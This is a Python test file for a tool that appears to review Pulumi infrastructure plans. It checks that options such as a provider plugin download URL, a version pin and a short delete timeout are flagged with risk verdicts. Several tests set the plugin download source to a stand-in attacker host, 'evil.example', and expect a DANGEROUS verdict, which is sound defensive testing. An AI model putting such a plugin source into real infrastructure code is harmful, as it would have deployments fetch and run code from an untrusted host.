"""Whose code a resource is made with, and how long it may take: options that no preview of the engine shows."""

from pathlib import Path
from textwrap import dedent

import pytest

from socle.capture.run import capture
from socle.diff.compare import compare
from socle.plan.json import from_json
from socle.plan.model import Plan
from socle.review.model import review
from socle.review.verdict import Verdict

PROGRAM = """
    import pulumi
    import pulumiverse_scaleway as scaleway
    {before}
    scaleway.network.Vpc("vpc", name="vpc", project_id="11111111-1111-4111-8111-111111111111", opts=pulumi.ResourceOptions({options}))
"""


def planned(folder: Path, options: str = "", before: str = "") -> Plan:
    file = folder / "__main__.py"
    file.write_text(dedent(PROGRAM).format(options=options, before=before), "utf-8")
    return capture(str(file), stack="demo", project="socle", root=folder)


@pytest.mark.parametrize(
    ("options", "verdict"),
    [
        ('plugin_download_url="https://evil.example/plugins"', Verdict.DANGEROUS),
        ('version="1.0.0"', Verdict.LOOK),
        ('custom_timeouts=pulumi.CustomTimeouts(delete="1s")', Verdict.LOOK),
        ('custom_timeouts=pulumi.CustomTimeouts(delete="2h")', Verdict.NO_RISK),
        ('replacement_trigger="x"', Verdict.LOOK),
    ],
)
def test_an_option_of_a_provider_is_seen_on_what_stays(tmp_path: Path, options: str, verdict: Verdict) -> None:
    comparison = compare(planned(tmp_path, options), planned(tmp_path))

    assert review([comparison], baseline="main").verdict is verdict
    assert compare(planned(tmp_path, options), planned(tmp_path, options)).changes == ()


def test_code_of_a_stranger_is_seen_on_what_is_new(tmp_path: Path) -> None:
    comparison = compare(planned(tmp_path, 'plugin_download_url="https://evil.example/plugins"'))
    assert review([comparison], baseline="").verdict is Verdict.DANGEROUS


def test_a_provider_of_the_program_has_a_source_too(tmp_path: Path) -> None:
    provider = 'scaleway.Provider("own", opts=pulumi.ResourceOptions({}))'
    url = 'plugin_download_url="https://evil.example/plugins"'
    sides = [planned(tmp_path, before=provider.format(options)) for options in (url, "")]

    assert review([compare(*sides)], baseline="main").verdict is Verdict.DANGEROUS


def test_what_an_sdk_sends_by_itself_is_not_recorded_and_what_is_chosen_is_kept(tmp_path: Path) -> None:
    assert "version" not in {key for row in planned(tmp_path) for key in row.__dict__ if getattr(row, key)}
    chosen = planned(tmp_path, 'version="1.0.0", plugin_download_url="https://example.org/p"')
    again = from_json(chosen.to_json()).one("scaleway:network/vpc:Vpc")

    assert (again.version, again.plugin_download_url) == ("1.0.0", "https://example.org/p")
